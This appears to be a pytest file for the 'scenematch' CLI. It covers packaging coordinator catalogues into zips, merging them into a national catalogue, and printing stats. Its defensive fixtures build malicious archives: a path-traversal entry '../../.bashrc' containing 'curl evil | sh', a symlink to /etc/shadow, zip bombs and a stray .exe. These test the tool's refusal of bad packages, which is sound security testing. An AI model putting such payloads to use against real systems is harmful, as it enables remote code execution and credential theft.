"""`scenematch package`, `merge` and `stats` as a user runs them: subprocesses on files."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest

from core.package import CATALOGUE_ENTRY, MANIFEST, RESULT_ENTRY
from core.store import CatalogueStore
from tests.conftest import cli_command, dump
from tests.core.test_package import a_pdf, entries, patch_declared_size, rezip

ZJ, HX = "浙江省", "华夏能源集团（虚构）"


def _run(cwd: Path, *args: str | Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "QT_QPA_PLATFORM": "offscreen"}
    return subprocess.run([*cli_command(), *map(str, args)], capture_output=True, text=True,
                          encoding="utf-8", cwd=cwd, env=env, timeout=300)


def _ok(proc: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert proc.returncode == 0, f"exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
    return proc


@pytest.fixture(scope="module")
def made(tmp_path_factory, demo_result) -> dict[str, Any]:
    """Both demo packages written by `scenematch package`, and a national catalogue that
    already holds Huaxia's package (written by `scenematch merge`)."""
    from core.demo import install_demo

    root = tmp_path_factory.mktemp("cli-packages")
    db = root / "demo.db"
    with CatalogueStore.open(db) as store:
        install_demo(store)
        store.save_run(coordinator=None, status=demo_result["status"],
                       objective=demo_result["objective"], bound=demo_result["bound"],
                       gap=demo_result["gap"], seconds=demo_result["seconds"],
                       params=demo_result["params"], result=demo_result)
    out: dict[str, Any] = {"db": db, "zj": root / "zj.zip", "hx": root / "hx.zip",
                           "national": root / "national.db"}
    out["zj_stdout"] = _ok(_run(root, "package", "--db", db, "--coordinator", ZJ,
                                "--out", out["zj"])).stdout
    _ok(_run(root, "package", "--db", db, "--coordinator", HX, "--out", out["hx"], "--run", "1"))
    _ok(_run(root, "merge", "--db", out["national"], out["hx"]))
    return out


@pytest.fixture
def national(made, tmp_path) -> Path:
    """A private copy of the national catalogue holding Huaxia's plan."""
    path = tmp_path / "national.db"
    shutil.copyfile(made["national"], path)
    return path


def test_help_lists_package_and_merge(run_cli):
    top = run_cli("--help", check=True).stdout
    assert "package" in top and "merge" in top
    assert "--coordinator" in run_cli("package", "--help", check=True).stdout
    assert "FILE.zip" in run_cli("merge", "--help", check=True).stdout


def test_package_writes_one_zip_with_pdfs_data_and_manifest(made):
    stdout = made["zj_stdout"]
    assert "package written" in stdout and ZJ in stdout
    content = entries(made["zj"])
    manifest = json.loads(content[MANIFEST])
    assert manifest["coordinator"] == ZJ and manifest["run_id"] == 1
    assert {f["path"] for f in manifest["files"]} == set(content) - {MANIFEST}
    assert [p.name for p in made["zj"].parent.glob("*.part")] == []


def test_the_packaged_pdfs_name_the_plan_and_its_scenes(made, tmp_path):
    from pypdf import PdfReader

    content = entries(made["zj"])
    catalogue = json.loads(content[CATALOGUE_ENTRY])
    summary = next(n for n in content if n.endswith(".pdf") and "/" not in n)
    (tmp_path / "summary.pdf").write_bytes(content[summary])
    reader = PdfReader(tmp_path / "summary.pdf")
    text = "".join(page.extract_text() or "" for page in reader.pages).replace("\n", "")
    assert len(reader.pages) >= 2
    assert ZJ in text
    assert catalogue["scenes"][0]["name"][:6] in text


def test_package_round_trip_through_merge_gives_identical_data(made, tmp_path, run_cli):
    national = tmp_path / "fresh.db"
    proc = run_cli("merge", "--db", national, made["zj"], check=True)
    assert ZJ in proc.stdout and "zj.zip" in proc.stdout
    run_cli("export", "--db", national, tmp_path / "national.json", check=True)
    exported = json.loads((tmp_path / "national.json").read_text(encoding="utf-8"))
    content = entries(made["zj"])
    packaged = json.loads(content[CATALOGUE_ENTRY])
    for key in ("organizations", "scenes", "partnerships", "exclusions", "pins", "plans"):
        def key_of(row: dict) -> str:
            return json.dumps(row, ensure_ascii=False, sort_keys=True)

        assert sorted(map(key_of, exported[key])) == sorted(map(key_of, packaged[key])), key
    with CatalogueStore.open(national, create=False) as store:
        runs = store.runs()
    assert [r.coordinator for r in runs] == [ZJ]
    assert runs[0].result == json.loads(content[RESULT_ENTRY])


def test_merging_two_coordinators_and_the_national_overview(made, national, run_cli):
    run_cli("merge", "--db", national, made["zj"], check=True)
    stats = json.loads(run_cli("stats", "--db", national, "--json", check=True).stdout)
    assert stats["by_coordinator"] == {ZJ: 30, HX: 15}
    nat = stats["national"]
    rows = {r["coordinator"]: r for r in nat["coordinators"]}
    zj_result = json.loads(entries(made["zj"])[RESULT_ENTRY])
    hx_result = json.loads(entries(made["hx"])[RESULT_ENTRY])
    assert rows[ZJ]["consortia"] == len(zj_result["consortia"])
    assert rows[HX]["consortia"] == len(hx_result["consortia"])
    assert nat["consortia"] == len(zj_result["consortia"]) + len(hx_result["consortia"])
    assert rows[ZJ]["by_field"] == {"industrial": 16, "service": 9, "special": 5}
    assert nat["robot_target"] == 10_000 and 0 < nat["robots_matched"] <= nat["robots_in_plan"]
    text = run_cli("stats", "--db", national, check=True).stdout
    overview = text.split("全国概览 National overview")[1]
    assert f"{nat['robots_matched']:,} / 10,000" in overview
    assert ZJ in overview and HX in overview
    english = run_cli("stats", "--db", national, "--lang", "en", check=True).stdout
    assert "Robots planned (scenes with a consortium)" in english


def test_merging_a_package_again_changes_nothing(made, national, run_cli):
    before = dump(national)
    proc = run_cli("merge", "--db", national, made["hx"], check=True)
    assert "run unchanged" in proc.stdout
    assert dump(national) == before


def test_package_refuses_an_unknown_coordinator_and_a_catalogue_without_runs(made, tmp_path, run_cli):
    out = tmp_path / "x.zip"
    proc = run_cli("package", "--db", made["db"], "--coordinator", "北京市", "--out", out)
    assert proc.returncode == 2 and "unknown coordinator '北京市'" in proc.stderr
    assert ZJ in proc.stderr  # the known ones are listed
    bare = tmp_path / "bare.db"
    run_cli("demo", "--db", bare, check=True)
    proc = run_cli("package", "--db", bare, "--coordinator", ZJ, "--out", out)
    assert proc.returncode == 2 and "no stored run covers" in proc.stderr
    proc = run_cli("package", "--db", made["db"], "--coordinator", ZJ, "--out", tmp_path / "x.pdf")
    assert proc.returncode == 2 and "must be a .zip" in proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bare.db"]


def _tampered(src: Path, dst: Path) -> Path:
    pdf = a_pdf(src)
    data = bytearray(entries(src)[pdf])
    data[len(data) // 3] ^= 0x01  # one bit of one byte
    return rezip(src, dst, change={pdf: bytes(data)})


def _truncated(src: Path, dst: Path) -> Path:
    data = src.read_bytes()
    dst.write_bytes(data[: len(data) * 2 // 3])
    return dst


def _traversal(src: Path, dst: Path) -> Path:
    return rezip(src, dst, add={"../../.bashrc": b"curl evil | sh"}, update_manifest=True)


def _symlink(src: Path, dst: Path) -> Path:
    def link(info: zipfile.ZipInfo) -> None:
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16

    return rezip(src, dst, add={"data/link": b"/etc/shadow"}, infos={"data/link": link},
                 update_manifest=True)


def _bomb(src: Path, dst: Path) -> Path:
    rezip(src, dst, add={"data/bomb.bin": b"\0" * 1000}, update_manifest=True)
    patch_declared_size(dst, "data/bomb.bin", 0xFFFF_FF00)
    return dst


def _ratio_bomb(src: Path, dst: Path) -> Path:
    return rezip(src, dst, add={"data/zeros.bin": bytes(32 * 1024 * 1024)}, update_manifest=True)


def _extra(src: Path, dst: Path) -> Path:
    return rezip(src, dst, add={"联合体组建方案/附件.exe": b"MZ\x90\x00"})


def _missing(src: Path, dst: Path) -> Path:
    return rezip(src, dst, drop=(a_pdf(src),))


def _foreign(src: Path, dst: Path) -> Path:
    with zipfile.ZipFile(dst, "w") as zf:
        zf.writestr("报名表.docx", b"PK fake")
        zf.writestr("data/catalogue.json", b'{"format": "scenematch.catalogue", "version": 1}')
    return dst


BAD = {
    "tampered": (_tampered, "SHA-256 does not match the manifest"),
    "truncated": (_truncated, "not a zip file, or truncated"),
    "traversal": (_traversal, "path traversal"),
    "symlink": (_symlink, "symbolic link"),
    "bomb": (_bomb, "expands beyond a sane size"),
    "ratio_bomb": (_ratio_bomb, "compression ratio"),
    "extra": (_extra, "extra file not listed in the manifest"),
    "missing": (_missing, "file listed in the manifest is missing"),
    "foreign": (_foreign, "not a SceneMatch submission package"),
}


@pytest.mark.parametrize("kind", list(BAD))
def test_merge_refuses_a_bad_package_and_changes_nothing(made, national, tmp_path, run_cli, kind):
    make, words = BAD[kind]
    bad = make(made["zj"], tmp_path / f"{kind}.zip")
    before = dump(national)
    # A good package alongside: all or nothing, so it is not merged either.
    proc = run_cli("merge", "--db", national, made["zj"], bad)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert f"{kind}.zip" in proc.stderr and words in proc.stderr
    assert "nothing was written" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert dump(national) == before


def test_a_refused_merge_into_a_new_catalogue_leaves_no_file(made, tmp_path, run_cli):
    bad = _tampered(made["zj"], tmp_path / "bad.zip")
    proc = run_cli("merge", "--db", tmp_path / "new.db", bad)
    assert proc.returncode == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.zip"]
